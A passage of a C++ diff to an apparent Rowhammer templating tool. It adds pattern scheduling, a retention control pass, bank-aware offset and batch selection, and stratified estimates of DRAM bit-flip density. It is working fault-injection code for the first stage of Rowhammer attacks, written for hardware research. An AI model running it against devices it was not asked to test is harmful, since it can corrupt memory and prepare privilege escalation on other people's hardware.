+    int rounds;      // rounds hammered with this pattern
+    int flips;       // new flips found in these rounds
+    int explored;    // slots given to this pattern for exploration
+};
+std::vector<struct pattern_stats_t> pattern_stats;
+static uint64_t bandit_slots;
+static uint64_t bandit_explored;
+static std::vector<int> screen_patterns;     // patterns of a screening pass (see run_screened()), all if empty
+
+static double pattern_yield(int p) {
+    return (pattern_stats[p].flips + 1.0) / (pattern_stats[p].rounds + 1.0);
 }
 
-bool times_up;
-void alarm_handler(int signal) {
-    printf("\n[TIME] is up, wrapping up\n");
-    times_up = true;
+/* the indices of the patterns to hammer the next offset with, in <chosen> */
+void schedule_patterns(int patterns, struct tmpl_config &cfg, std::vector<int> &chosen) {
+    chosen.clear();
+    if (!screen_patterns.empty()) {
+        chosen = screen_patterns;
+        return;
+    }
+    if (!cfg.bandit) {
+        for (int p = 0; p < patterns; p++) chosen.push_back(p);
+        return;
+    }
+
+    int slots = (patterns + BANDIT_FRACTION - 1) / BANDIT_FRACTION;
+    std::vector<bool> used(patterns);
+    for (int s = 0; s < slots; s++) {
+        int pick = -1;
+        if (bandit_explored * 100 < (uint64_t) cfg.explore * (bandit_slots + 1)) {
+            int r = splitmix64(pattern_seed ^ splitmix64(bandit_slots)) % (patterns - s);
+            for (int p = 0; p < patterns && pick < 0; p++) 
+                if (!used[p] && r-- == 0) pick = p;
+            pattern_stats[pick].explored++;
+            bandit_explored++;
+        } else {
+            for (int p = 0; p < patterns; p++) 
+                if (!used[p] && (pick < 0 || pattern_yield(p) > pattern_yield(pick))) pick = p;
+        }
+        used[pick] = true;
+        chosen.push_back(pick);
+        bandit_slots++;
+    }
 }
 
+/* offsets in a row to hammer, and the bytes of the row each of them stands
+ * for (see plan_offsets()) */
+static std::vector<int> run_offsets;
+static std::vector<int> run_offset_bytes;
+
 /* Perform 'conservative' rowhammer: we hammer each page in a row. The figure
  * below - row size of 32K = 8 pages - illustrates a victim row (pages P1 .. P8) 
  * and its two aggressor rows (above, pages A1 .. A8, and below, pages B1 ..
- * B8). We write patterns to the entire rows (using <*_row>) and then
- * hammer pages by reading from <virt_above> and <virt_below>. 
+ * B8). We write patterns to the entire rows and then hammer pages by reading
+ * from <virt_above> and <virt_below>. 
  * 
  * /-- <above_row>
  * |              /-- <virt_above>
@@ -301,118 +706,978 @@ void alarm_handler(int signal) {
  * | |            \-- <virt_below>
  * | \-- <below_row>       
  * \-- <virt_row>
+ *
+ * The offsets come from plan_offsets(). The <n> rows of a batch are hammered
+ * together, at the same offsets.
+ * Returns false if the deadline expired before all offsets were hammered.
  */
-void TMPL_run(std::vector<struct ion_data *> &chunks, 
-              std::vector<struct template_t *> &templates, 
-              std::vector<struct pattern_t *> &patterns, int timer, int hammer_readcount,
-              bool do_conservative) {
-    
-    int bytes_hammered = 0;
-    std::vector<uint64_t> readtimes;
+bool hammer_rows(struct hammer_row_t **rows, int n,
+                 struct template_arena &templates, 
+                 std::vector<struct pattern_t *> &patterns, 
+                 struct tmpl_config &cfg) {
+    TEL_govern();
+    if (DL_expired()) return false;
+
+    print_status(templates);
+    row_stats.readtimes.clear();
+    row_stats.p90_max = 0;
+    row_stats.cached = 0;
+    row_stats.preempted = 0;
+    row_stats.retries = 0;
 
-    if (timer) {
-        printf("[TMPL] Setting alarm in %d seconds\n",  timer);
-        signal(SIGALRM, alarm_handler);
-        alarm(timer);
+    for (int k = 0; k < n; k++) 
+        print_row(rows[k]);
+    print_deltas_header(rows, n);
+
+    std::vector<int> chosen;
+    bool stopped = false;
+    for (size_t o = 0; o < run_offsets.size(); o++) {
+        int offset = run_offsets[o];
+        printf("|");
+        schedule_patterns(patterns.size(), cfg, chosen);
+        for (auto p: chosen) {
+            struct pattern_t *pattern = patterns[p];
+            size_t flips_before = templates.size();
+
+            /* Write patterns to the rows and hammer. Retry rounds that hit in
+             * the cache or got preempted. */
+            struct round_t round;
+            for (int attempt = 0; ; attempt++) {
+                do_hammer(rows, n, offset, pattern, templates, cfg.hammer_readcount, &round);
+                if (round.stopped) break;
+                if (round.cached)    row_stats.cached++;
+                if (round.preempted) row_stats.preempted++;
+                if (round.preempted) run_preempted++;
+                run_rounds++;
+                if (!round.cached && !round.preempted) break;
+                if (attempt == ROUND_RETRIES) break;
+                row_stats.retries++;
+            }
+            if (round.stopped) {
+                stopped = true;
+                break;
+            }
+            pattern_stats[p].rounds++;
+            pattern_stats[p].flips += templates.size() - flips_before;
+
+            int delta = round.ns_per_read;
+            readtimes.push_back(delta);
+            row_stats.readtimes.push_back(delta);
+            row_stats.p90_max = std::max(row_stats.p90_max, round.p90);
+            printf("%d%s%s", delta, round.cached ? "c" : "", round.preempted ? "p" : "");
+            if (perf_enabled && PERF_available(PERF_LLC_MISSES)) 
+                printf("/%.2f", (double) round.perf.value[PERF_LLC_MISSES] / ((double) cfg.hammer_readcount * 2 * n));
+            printf("|");
+
+            pattern->cur_use++;
+            if (pattern->max_use && pattern->cur_use >= pattern->max_use) {
+                pattern->generation++;
+                TMPL_fill_pattern(pattern);
+                pattern->cur_use = 0;
+            }
+        }
+        if (stopped) break;
+        printf(" ");
+
+        bytes_hammered += run_offset_bytes[o] * n;
+
+        if (o + 1 < run_offsets.size() && DL_expired()) {
+            stopped = true;
+            break;
+        }
     }
-    times_up = false;
+    printf("\n");
+
+    if (!stopped) rows_hammered += n;
+    return !stopped;
+}
+
+/* Retention control pass: cells that leak their charge within the duration of
+ * a hammer round show up as flips without any hammering. We write every row
+ * content used by the patterns to all rows, wait as long as a hammer round
+ * takes, and verify. Rows are handled RETENTION_BATCH at a time so that a
+ * single wait covers a whole batch, which keeps this pass short compared to
+ * templating. Failing cells are remembered in <retention_cells> and
+ * differences in them are not counted as Rowhammer flips afterwards. */
+#define RETENTION_BATCH 64          // rows written before a single wait
+#define RETENTION_CALIBRATE 10000   // reads to estimate the duration of a round
 
-    int bytes_allocated = 0;
-    for (auto chunk : chunks) {
-        bytes_allocated += chunk->len;
+void retention_pass(struct ion_chunks &chunks, 
+                    std::vector<struct pattern_t *> &patterns, 
+                    struct tmpl_config &cfg) {
+    std::vector<std::pair<int, uint8_t *> > rows;
+    for (int chunk = 0; chunk < (int) chunks.size(); chunk++) {
+        if (chunks.mapping[chunk] == NULL) continue;
+        for (int offset = 0; offset + rowsize <= chunks.len[chunk]; offset += rowsize) 
+            rows.push_back(std::make_pair(chunk, (uint8_t *) chunks.mapping[chunk] + offset));
     }
-    
-    time_t start_time = time(NULL);
-    print("[TMPL] - Bytes allocated: %d (%d MB)\n", bytes_allocated, bytes_allocated / 1024 / 1024);
-    print("[TMPL] - Time: %d\n", start_time);
-    print("[TMPL] - Start templating\n");
-    for (auto chunk : chunks) {
-        ION_get_hammerable_rows(chunk);
-   
-        for (auto virt_row : chunk->hammerable_rows) {
-            uintptr_t phys_row = get_phys_addr(virt_row);
-            int virt_row_index = virt_row / rowsize;
-            int phys_row_index = phys_row / rowsize;
-
-            int median_readtime = compute_median(readtimes);
-            int seconds_passed = time(NULL) - start_time;
-            int flips = templates.size();
-            int exploitable_flips = get_exploitable_flip_count(templates);
-            double kb_per_flip, percentage_exploitable;
-            int to0, to1;
-            if (flips > 0) {
-                kb_per_flip = (bytes_hammered / 1024) / (double)  flips;
-                percentage_exploitable = (double) exploitable_flips / (double) flips * 100.0;
-                to0 = get_direction_flip_count(templates, ONE_TO_ZERO);
-                to1 = get_direction_flip_count(templates, ZERO_TO_ONE);
-            } else {
-                kb_per_flip = 0.0;
-                percentage_exploitable = 0.0;
-                to0 = 0;
-                to1 = 0;
+
+    /* time a round on the first hammerable row */
+    int calibrate = 0;
+    while (calibrate < (int) chunks.size() && ION_rows(chunks, calibrate) == 0) calibrate++;
+    if (calibrate == (int) chunks.size()) return;
+    volatile uintptr_t *virt_above = (volatile uintptr_t *) (ION_row(chunks, calibrate, 0) - rowsize);
+    volatile uintptr_t *virt_below = (volatile uintptr_t *) (ION_row(chunks, calibrate, 0) + rowsize);
+    uint64_t wait_ns = MAP_access_time(virt_above, virt_below, RETENTION_CALIBRATE) * cfg.hammer_readcount;
+
+    std::set<uint8_t *> contents;
+    for (auto pattern : patterns) {
+        contents.insert(pattern->above);
+        contents.insert(pattern->victim);
+        contents.insert(pattern->below);
+    }
+    print("[TMPL] - Retention pass: %d rows, %d row contents, %d ms per batch of %d rows\n", 
+            (int) rows.size(), (int) contents.size(), (int) (wait_ns / 1000000), RETENTION_BATCH);
+
+    uint64_t t_start = get_ns();
+    for (auto content : contents) {
+        for (size_t first = 0; first < rows.size(); first += RETENTION_BATCH) {
+            size_t last = std::min(rows.size(), first + RETENTION_BATCH);
+            for (size_t r = first; r < last; r++) {
+                memcpy(rows[r].second, content, rowsize);
+                CACHE_flush(rows[r].second, rowsize);
             }
 
-            print("[TMPL - status] flips: %d | expl: %d | hammered: %d | runtime: %d | median: %d | kb_per_flip: %5.2f | perc_expl: %5.2f | special: %d | 0-to-1: %d | 1-to-0: %d\n", 
-                    flips, exploitable_flips, bytes_hammered, seconds_passed, median_readtime, kb_per_flip, percentage_exploitable, spc_flips, to1, to0);
-            print("[TMPL - hammer] virtual row %d: %p | physical row %d: %p\n", 
-                    virt_row_index, virt_row, phys_row_index, phys_row);
-            printf("[TMPL - deltas] virtual row %d: ", (uintptr_t) virt_row_index);
-
-        
-            uintptr_t above_row = virt_row - rowsize;
-            uintptr_t below_row = virt_row + rowsize;
-
-            int step = PAGESIZE;
-            if (do_conservative) 
-                step = 64;
-
-            for (int offset = 0; offset < rowsize; offset += step) {
-                uintptr_t virt_above = above_row + offset;
-                uintptr_t virt_below = below_row + offset;
-
-                printf("|");
-                for (auto pattern: patterns) {
-
-                    /* write patterns to the adjacent rows and hammer */
-                    memcpy((void *) above_row, pattern->above, rowsize);
-                    memcpy((void *) below_row, pattern->below, rowsize);
-                    int delta = do_hammer(         (uint8_t   *) virt_row, 
-                                          (volatile uintptr_t *) virt_above,
-                                          (volatile uintptr_t *) virt_below, 
-                                          pattern->above, pattern->victim, pattern->below, templates, chunk, hammer_readcount);
-                    readtimes.push_back(delta);
-                    printf("%d|", delta);
-
-                    pattern->cur_use++;
-                    if (pattern->max_use && pattern->cur_use >= pattern->max_use) {
-                        if (pattern->reset_above)  pattern->reset_above (pattern->above);
-                        if (pattern->reset_victim) pattern->reset_victim(pattern->victim);
-                        if (pattern->reset_below)  pattern->reset_below (pattern->below);
-                        pattern->cur_use = 0;
+            usleep(wait_ns / 1000);
+            for (size_t r = first; r < last; r++) 
+                CACHE_flush(rows[r].second, rowsize);
+
+            for (size_t r = first; r < last; r++) {
+                int chunk = rows[r].first;
+                uint8_t *row = rows[r].second;
+                for (int b = 0; b < rowsize; b += VERIFY_BLOCK) {
+                    if (!block_differs(row + b, content + b)) continue;
+                    for (int i = b; i < b + VERIFY_BLOCK; i++) {
+                        if (row[i] == content[i]) continue;
+                        retention_cells.insert(cell_key(chunk, (uintptr_t) row + i));
+                        print("[RETENTION] i:%p v:%p 0x%02x != 0x%02x\n", 
+                                chunks.mapping[chunk], row + i, row[i], content[i]);
                     }
                 }
-                printf(" ");
-       
-                bytes_hammered += step;
+            }
+            if (DL_expired()) break;
+        }
+        if (DL_expired()) break;
+    }
+    print("[TMPL] - Retention pass: %d cells failed without hammering (%d seconds)\n", 
+            (int) retention_cells.size(), (int) ((get_ns() - t_start) / 1000000000ULL));
+}
+
+/* Adaptive offsets (-s): reads at an offset in the aggressor rows only hammer
+ * the bank that this offset maps to. Hammering every 64 bytes repeats the same
+ * banks many times, while hammering every page may miss banks (or channels)
+ * that are interleaved at a finer granularity. Since rows are aligned to the
+ * row size and the bank functions are XORs of address bits, offsets in a row
+ * group into banks the same way in every row. We therefore group the offsets
+ * of the first row once, using the DRAM mapping if it was detected (-m), or
+ * else by timing: an offset in the row above and a representative offset in
+ * the row below are in the same bank if accessing both gives a row conflict.
+ * Every row is then hammered at one offset per group. The coverage we report
+ * is checked on another row: a sample of the offsets we skip is tested again
+ * against the offset hammered for its group (see check_offsets()). */
+#define OFFSET_STEP         64
+#define OFFSET_PROBE_READS  200
+#define OFFSET_CHECKS       32      // skipped offsets checked in another row
+
+static uint64_t offset_time(uintptr_t virt1, uintptr_t virt2) {
+    return std::min(MAP_access_time((volatile uintptr_t *) virt1, (volatile uintptr_t *) virt2, OFFSET_PROBE_READS),
+                    MAP_access_time((volatile uintptr_t *) virt1, (volatile uintptr_t *) virt2, OFFSET_PROBE_READS));
+}
+
+/* Check a sample of the offsets that plan_offsets() skips in the row <virt_row>:
+ * an offset is covered if it still maps to the same bank as the offset that
+ * is hammered for its group. Returns the number of covered offsets. */
+static int check_offsets(uintptr_t virt_row, std::vector<int> &group_of, uint64_t threshold, int *checked) {
+    std::vector<int> skipped;
+    for (size_t i = 0; i < group_of.size(); i++) 
+        if (run_offsets[group_of[i]] != (int) i * OFFSET_STEP) skipped.push_back(i * OFFSET_STEP);
+    int step = std::max(1, ((int) skipped.size() + OFFSET_CHECKS - 1) / OFFSET_CHECKS);
+
+    uintptr_t above_row = virt_row - rowsize;
+    uintptr_t below_row = virt_row + rowsize;
+    int covered = 0;
+    *checked = 0;
+    for (size_t i = 0; i < skipped.size(); i += step) {
+        int offset = skipped[i];
+        int rep = run_offsets[group_of[offset / OFFSET_STEP]];
+        bool same;
+        if (dram_mapping.valid) 
+            same = MAP_bank(get_phys_addr(above_row + offset)) == MAP_bank(get_phys_addr(above_row + rep));
+        else
+            same = offset_time(above_row + offset, below_row + rep) > threshold;
+        covered += same;
+        (*checked)++;
+    }
+    return covered;
+}
+
+void plan_offsets(std::vector<struct hammer_row_t> &plan, struct tmpl_config &cfg) {
+    run_offsets.clear();
+    run_offset_bytes.clear();
+
+    int mode = cfg.offsets;
+    uint64_t threshold = 0;
+    uintptr_t above_row = 0, below_row = 0;
+    if (mode == TMPL_OFFSETS_ADAPTIVE && plan.empty()) mode = TMPL_OFFSETS_PAGE;
+    if (mode == TMPL_OFFSETS_ADAPTIVE) {
+        above_row = plan[0].virt_row - rowsize;
+        below_row = plan[0].virt_row + rowsize;
+    }
+    if (mode == TMPL_OFFSETS_ADAPTIVE && !dram_mapping.valid) {
+        uint64_t hit      = offset_time(above_row, above_row + OFFSET_STEP);
+        uint64_t conflict = offset_time(above_row, below_row);
+        print("[TMPL - offsets] row hit: %llu ns | row conflict: %llu ns\n", 
+                (unsigned long long) hit, (unsigned long long) conflict);
+        if (conflict < hit + hit / 4) {
+            print("[TMPL - offsets] WARNING! Could not tell banks apart, hammering every %d bytes\n", OFFSET_STEP);
+            mode = TMPL_OFFSETS_ALL;
+        }
+        threshold = (hit + conflict) / 2;
+    }
+
+    if (mode != TMPL_OFFSETS_ADAPTIVE) {
+        int step = (mode == TMPL_OFFSETS_ALL) ? OFFSET_STEP : PAGESIZE;
+        for (int offset = 0; offset < rowsize; offset += step) {
+            run_offsets.push_back(offset);
+            run_offset_bytes.push_back(step);
+        }
+        return;
+    }
+
+    std::vector<int> group_of;     // group of every OFFSET_STEP bytes
+    std::vector<int> banks;        // bank of every group (with a DRAM mapping)
+    uint64_t phys_page = 0;
+    for (int offset = 0; offset < rowsize; offset += OFFSET_STEP) {
+        int group = -1;
+        if (dram_mapping.valid) {
+            if (offset % PAGESIZE == 0) phys_page = get_phys_addr(above_row + offset);
+            int bank = MAP_bank(phys_page + offset % PAGESIZE);
+            for (size_t g = 0; g < banks.size(); g++) 
+                if (banks[g] == bank) group = g;
+            if (group < 0) banks.push_back(bank);
+        } else {
+            for (size_t g = 0; g < run_offsets.size(); g++) {
+                if (offset_time(above_row + offset, below_row + run_offsets[g]) > threshold) {
+                    group = g;
+                    break;
+                }
+            }
+        }
+        if (group < 0) {
+            group = run_offsets.size();
+            run_offsets.push_back(offset);
+            run_offset_bytes.push_back(0);
+        }
+        run_offset_bytes[group] += OFFSET_STEP;
+        group_of.push_back(group);
+    }
+
+    /* coverage: the groups hit by hammering each page */
+    std::set<int> page_groups;
+    for (int offset = 0; offset < rowsize; offset += PAGESIZE) 
+        page_groups.insert(group_of[offset / OFFSET_STEP]);
+
+    int groups = run_offsets.size();
+    print("[TMPL - offsets] %d distinct bank mappings in a row (from %s): hammering %d offsets per row instead of %d (every %d bytes) or %d (every page)\n",
+            groups, dram_mapping.valid ? "DRAM mapping" : "timing", groups, rowsize / OFFSET_STEP, OFFSET_STEP, rowsize / PAGESIZE);
+    print("[TMPL - offsets] hammering every page covers %d of %d mappings (%.2f%%)\n",
+            (int) page_groups.size(), groups, 100.0 * page_groups.size() / groups);
+
+    /* the groups are assumed to be the same in every row: check them in a row
+     * from the middle of the plan */
+    int checked;
+    int covered = check_offsets(plan[plan.size() / 2].virt_row, group_of, threshold, &checked);
+    if (checked) 
+        print("[TMPL - offsets] coverage: %d of %d skipped offsets checked in another row map like their hammered offset (%.2f%%)\n",
+                covered, checked, 100.0 * covered / checked);
+}
+
+/* Bank-parallel batches (--batch): the victim rows of a batch must sit in
+ * different banks. With a detected DRAM mapping (-m) we know the bank of each
+ * row. Otherwise we sort the rows into classes by measuring them against one
+ * representative row of each class found so far: two rows in the same bank
+ * conflict, so that accessing both is slower than accessing a single row (see
+ * calibrate_banks()). */
+#define BATCH_WINDOW      256    // rows searched ahead for rows in other banks
+#define BATCH_PROBE_READS 1000
+
+static std::vector<struct hammer_row_t *> bank_reps;
+static uint64_t conflict_threshold;
+
+static uint64_t probe_time(uintptr_t virt1, uintptr_t virt2) {
+    return std::min(MAP_access_time((volatile uintptr_t *) virt1, (volatile uintptr_t *) virt2, BATCH_PROBE_READS),
+                    MAP_access_time((volatile uintptr_t *) virt1, (volatile uintptr_t *) virt2, BATCH_PROBE_READS));
+}
+
+/* Without a DRAM mapping, derive the conflict threshold from the first row:
+ * its two halves share a row, its aggressor above is in the same bank. */
+bool calibrate_banks(struct hammer_row_t *row) {
+    uint64_t hit      = probe_time(row->virt_row, row->virt_row + rowsize / 2);
+    uint64_t conflict = probe_time(row->virt_row, row->virt_row - rowsize);
+    print("[TMPL - batch] row hit: %llu ns | row conflict: %llu ns\n", 
+            (unsigned long long) hit, (unsigned long long) conflict);
+    if (conflict < hit + hit / 4) return false;
+    conflict_threshold = (hit + conflict) / 2;
+    return true;
+}
+
+int row_bank(struct hammer_row_t *row) {
+    if (row->bank >= 0) return row->bank;
+    if (dram_mapping.valid) 
+        return row->bank = MAP_bank(row->phys_row);
+
+    for (size_t i = 0; i < bank_reps.size(); i++) {
+        if (probe_time(row->virt_row, bank_reps[i]->virt_row) > conflict_threshold) 
+            return row->bank = i;
+    }
+    bank_reps.push_back(row);
+    return row->bank = bank_reps.size() - 1;
+}
+
+static bool is_bank_rep(int chunk) {
+    for (auto rep : bank_reps) 
+        if (rep->chunk == chunk) return true;
+    return false;
+}
+
+/* Check that batching is possible, otherwise fall back to one row at a time */
+void setup_batches(std::vector<struct hammer_row_t> &plan, struct tmpl_config &cfg) {
+    bank_reps.clear();
+    if (cfg.batch <= 1 || plan.empty()) return;
+
+    if (!dram_mapping.valid && !calibrate_banks(&plan[0])) {
+        print("[TMPL - batch] WARNING! Could not tell banks apart, hammering one row at a time\n");
+        cfg.batch = 1;
+        return;
+    }
+    print("[TMPL - batch] Hammering %d rows in different banks per round (banks from %s)\n", 
+            cfg.batch, dram_mapping.valid ? "DRAM mapping" : "timing");
+}
+
+/* Give back the smallest chunks until the memory watchdog is satisfied (see
+ * memwatch.h), so the most contiguous memory is kept. Called between rows;
+ * chunks of the <n> rows about to be hammered and of bank representatives
+ * stay. */
+static void release_chunks(struct hammer_row_t **rows, int n) {
+    int64_t want = mem_release;
+    if (want <= 0) return;
+
+    std::vector<int> candidates;
+    for (int chunk = 0; chunk < (int) run_chunks->size(); chunk++) {
+        if (run_chunks->mapping[chunk] == NULL || is_bank_rep(chunk)) continue;
+        bool busy = false;
+        for (int k = 0; k < n; k++) 
+            if (rows[k]->chunk == chunk) busy = true;
+        if (!busy) candidates.push_back(chunk);
+    }
+    std::stable_sort(candidates.begin(), candidates.end(), 
+            [](int a, int b) { return run_chunks->len[a] < run_chunks->len[b]; });
+
+    int64_t released = 0;
+    int count = 0;
+    for (auto chunk : candidates) {
+        if (released >= want) break;
+        released += run_chunks->len[chunk];
+        ION_clean(*run_chunks, chunk);
+        count++;
+    }
+    MEM_released(released);
+    print("[TMPL] Released %d chunks (%lld KB) for the memory watchdog, holding %lld KB\n", 
+            count, (long long) (released >> 10), (long long) (ion_bytes_held >> 10));
+}
+
+/* the victim and aggressor rows of <a> and <b> share a row */
+static bool rows_overlap(struct hammer_row_t *a, struct hammer_row_t *b) {
+    uintptr_t distance = a->virt_row > b->virt_row ? a->virt_row - b->virt_row : b->virt_row - a->virt_row;
+    return a->chunk == b->chunk && distance < (uintptr_t) 3 * rowsize;
+}
+
+/* the chunk of <row> was given back under memory pressure (see release_chunks()) */
+static bool row_released(struct hammer_row_t *row) {
+    return run_chunks->mapping[row->chunk] == NULL;
+}
+
+/* Pick the next batch from <plan>: the first row that was not hammered yet,
+ * plus rows in other banks from the next BATCH_WINDOW rows, up to cfg.batch
+ * rows in total. Rows never run more than BATCH_WINDOW rows ahead of their
+ * turn, so a stratified plan keeps its properties. Rows of released chunks
+ * are skipped. Returns the number of rows in <batch>. */
+int next_batch(std::vector<struct hammer_row_t> &plan, size_t &first, 
+               std::vector<bool> &taken, int k, struct hammer_row_t **batch) {
+    while (first < plan.size() && (taken[first] || row_released(&plan[first]))) first++;
+
+    int n = 0;
+    for (size_t i = first; i < plan.size() && i < first + BATCH_WINDOW && n < k; i++) {
+        if (taken[i] || row_released(&plan[i])) continue;
+        if (k > 1) {
+            bool conflict = false;
+            for (int j = 0; j < n; j++) 
+                if (rows_overlap(batch[j], &plan[i]) || row_bank(batch[j]) == row_bank(&plan[i])) conflict = true;
+            if (conflict) continue;
+        }
+        taken[i] = true;
+        batch[n++] = &plan[i];
+    }
+    return n;
+}
+
+/* flips found in <row> since the arena held <from> records */
+int row_flips(struct template_arena &templates, size_t from, struct hammer_row_t *row) {
+    int rel_row_index = (row->virt_row - (uintptr_t) run_chunks->mapping[row->chunk]) / rowsize;
+    int flips = 0;
+    for (size_t i = from; i < templates.size(); i++) {
+        struct template_t *tmpl = templates.at(i);
+        if ((int) tmpl->chunk == row->chunk && tmpl_rel_row_index(tmpl) == rel_row_index) flips++;
+    }
+    return flips;
+}
+
+/* Move the rows in <cfg.first_rows> (known weak rows, see WDB_locate()) to
+ * the front of <plan>, keeping the order of the plan otherwise */
+void plan_first_rows(std::vector<struct hammer_row_t> &plan, struct tmpl_config &cfg) {
+    if (cfg.first_rows == NULL || cfg.first_rows->empty()) return;
+    auto end = std::stable_partition(plan.begin(), plan.end(), 
+            [&cfg](const struct hammer_row_t &row) { return cfg.first_rows->count(row.virt_row) > 0; });
+    print("[TMPL] - Hammering %d known weak rows first\n", (int) (end - plan.begin()));
+}
+
+/* Visit the rows of all chunks in allocation order, releasing each chunk once
+ * all of its rows have been hammered. */
+void run_sequential(struct ion_chunks &chunks, 
+                    struct template_arena &templates, 
+                    std::vector<struct pattern_t *> &patterns, 
+                    struct tmpl_config &cfg) {
+    std::vector<struct hammer_row_t> plan;
+    std::vector<int> remaining(chunks.size());
+    for (int chunk = 0; chunk < (int) chunks.size(); chunk++) {
+        remaining[chunk] = ION_rows(chunks, chunk);
+        if (remaining[chunk] == 0 && !cfg.keep_chunks) ION_clean(chunks, chunk);
+        for (int r = 0; r < ION_rows(chunks, chunk); r++) {
+            struct hammer_row_t row = { chunk, ION_row(chunks, chunk, r), ION_row_phys(chunks, chunk, r), 0, 0.0, -1 };
+            plan.push_back(row);
+        }
+    }
+    plan_first_rows(plan, cfg);
+    plan_offsets(plan, cfg);
+    setup_batches(plan, cfg);
+
+    std::vector<bool> taken(plan.size());
+    size_t first = 0;
+    struct hammer_row_t *batch[TMPL_MAX_BATCH];
+    int n;
+    while ((n = next_batch(plan, first, taken, cfg.batch, batch)) > 0) {
+        release_chunks(batch, n);
+        if (!hammer_rows(batch, n, templates, patterns, cfg)) break;
+
+        /* clean, but keep the rows that tell banks apart */
+        for (int k = 0; k < n; k++) {
+            int chunk = batch[k]->chunk;
+            if (--remaining[chunk] == 0 && !is_bank_rep(chunk) && !cfg.keep_chunks) 
+                ION_clean(chunks, chunk);
+        }
+    }
+}
+
+/* Stratified sampling: with a timer, hammering in allocation order only
+ * covers the first few chunks. Instead, we group all hammerable rows into
+ * strata by physical address range, bank (if the DRAM address mapping is
+ * known, see MAP_bank()) and chunk order, shuffle the rows within
+ * each stratum and interleave the strata proportionally to their size. No
+ * matter when the timer goes off, the hammered rows then form a stratified
+ * random sample of all allocated memory, from which we estimate the flip
+ * density with a confidence interval. */
+#define STRATA_PHYS 8
+#define Z_95 1.96
+
+struct stratum_t {
+    int phys_bucket;
+    int bank;                 // -1 without a DRAM address mapping
+    int order;
+    int rows;                 // N_h: hammerable rows in this stratum
+    std::vector<int> flips;   // flips of each completely hammered row
+};
+
+void plan_stratified(struct ion_chunks &chunks, 
+                     std::vector<struct hammer_row_t> &plan,
+                     std::vector<struct stratum_t> &strata) {
+    uint64_t min_phys = UINT64_MAX;
+    uint64_t max_phys = 0;
+    for (int chunk = 0; chunk < (int) chunks.size(); chunk++) {
+        for (int r = 0; r < ION_rows(chunks, chunk); r++) {
+            struct hammer_row_t row = { chunk, ION_row(chunks, chunk, r), ION_row_phys(chunks, chunk, r), 0, 0.0, -1 };
+            if (row.phys_row) {
+                min_phys = std::min(min_phys, row.phys_row);
+                max_phys = std::max(max_phys, row.phys_row);
+            }
+            plan.push_back(row);
+        }
+    }
+    uint64_t phys_range = (max_phys >= min_phys) ? max_phys - min_phys + 1 : 1;
+
+    /* assign rows to strata */
+    std::map<std::tuple<int, int, int>, int> stratum_ids;
+    for (auto &row : plan) {
+        int phys_bucket = 0;
+        int bank = -1;
+        if (row.phys_row) {
+            phys_bucket = (row.phys_row - min_phys) * STRATA_PHYS / phys_range;
+            if (dram_mapping.valid) bank = MAP_bank(row.phys_row);
+        }
+        int order = chunks.order[row.chunk];
+    
+        auto key = std::make_tuple(phys_bucket, bank, order);
+        if (!stratum_ids.count(key)) {
+            stratum_ids[key] = strata.size();
+            strata.push_back({ phys_bucket, bank, order, 0, std::vector<int>() });
+        }
+        row.stratum = stratum_ids[key];
+        strata[row.stratum].rows++;
+    }
+
+    /* Shuffle rows within each stratum (Fisher-Yates, seeded with the pattern
+     * seed so that the order can be reproduced) and give the i-th row of
+     * stratum h the key (i + u_h) / N_h. Sorting on this key interleaves the
+     * strata proportionally to their size. */
+    uint64_t state = splitmix64(pattern_seed ^ 0x5354524154ULL);
+    std::vector<std::vector<int>> members(strata.size());
+    for (size_t i = 0; i < plan.size(); i++) 
+        members[plan[i].stratum].push_back(i);
+    for (size_t h = 0; h < strata.size(); h++) {
+        std::vector<int> &m = members[h];
+        for (size_t i = m.size() - 1; i > 0; i--) {
+            state = splitmix64(state);
+            std::swap(m[i], m[state % (i + 1)]);
+        }
+        state = splitmix64(state);
+        double u = (state >> 11) * (1.0 / 9007199254740992.0);
+        for (size_t i = 0; i < m.size(); i++) 
+            plan[m[i]].key = (i + u) / m.size();
+    }
+    std::stable_sort(plan.begin(), plan.end(), 
+            [](const struct hammer_row_t &a, const struct hammer_row_t &b) { return a.key < b.key; });
+
+    print("[TMPL] - Stratified sampling: %d rows in %d strata (by physical address, %s and chunk order)\n", 
+            (int) plan.size(), (int) strata.size(), dram_mapping.valid ? "bank" : "no banks without -m");
+    for (auto &stratum : strata) {
+        print("[TMPL - stratum] phys: %d/%d | bank: %2d | order: %2d | rows: %d\n", 
+                stratum.phys_bucket, STRATA_PHYS, stratum.bank, stratum.order, stratum.rows);
+    }
+}
+
+/* Stratified estimate of the mean number of flips per row and its standard
+ * error, using a finite population correction. */
+void report_stratified(std::vector<struct stratum_t> &strata) {
+    int N = 0, n = 0, unsampled = 0;
+    std::vector<int> all_flips;
+    for (auto &stratum : strata) {
+        N += stratum.rows;
+        n += stratum.flips.size();
+        if (stratum.flips.empty()) unsampled++;
+        all_flips.insert(all_flips.end(), stratum.flips.begin(), stratum.flips.end());
+    }
+    if (n == 0) {
+        print("[TMPL] - stratified estimate: no rows completed\n");
+        return;
+    }
+
+    /* fallback variance for strata with a single sample */
+    double pooled_mean = std::accumulate(all_flips.begin(), all_flips.end(), 0.0) / n;
+    double pooled_var = 0.0;
+    for (auto y : all_flips) pooled_var += (y - pooled_mean) * (y - pooled_mean);
+    pooled_var = (n > 1) ? pooled_var / (n - 1) : 0.0;
+
+    int N_sampled = 0;
+    for (auto &stratum : strata) 
+        if (!stratum.flips.empty()) N_sampled += stratum.rows;
+
+    double mean = 0.0, var = 0.0;
+    for (auto &stratum : strata) {
+        int n_h = stratum.flips.size();
+        if (n_h == 0) continue;
+        double W_h = (double) stratum.rows / N_sampled;
+        double mean_h = std::accumulate(stratum.flips.begin(), stratum.flips.end(), 0.0) / n_h;
+        double var_h = pooled_var;
+        if (n_h > 1) {
+            var_h = 0.0;
+            for (auto y : stratum.flips) var_h += (y - mean_h) * (y - mean_h);
+            var_h /= (n_h - 1);
+        }
+        mean += W_h * mean_h;
+        var  += W_h * W_h * (1.0 - (double) n_h / stratum.rows) * var_h / n_h;
+    }
+    double se = sqrt(var);
+    double lo = std::max(0.0, mean - Z_95 * se);
+    double hi = mean + Z_95 * se;
+    double rows_per_mb = (double) M(1) / rowsize;
+
+    print("[TMPL] - stratified sample: %d of %d rows (%5.2f%%), %d of %d strata unsampled\n", 
+            n, N, 100.0 * n / N, unsampled, (int) strata.size());
+    print("[TMPL] - flips per MB: %5.2f (95%% CI %5.2f .. %5.2f)\n", 
+            mean * rows_per_mb, lo * rows_per_mb, hi * rows_per_mb);
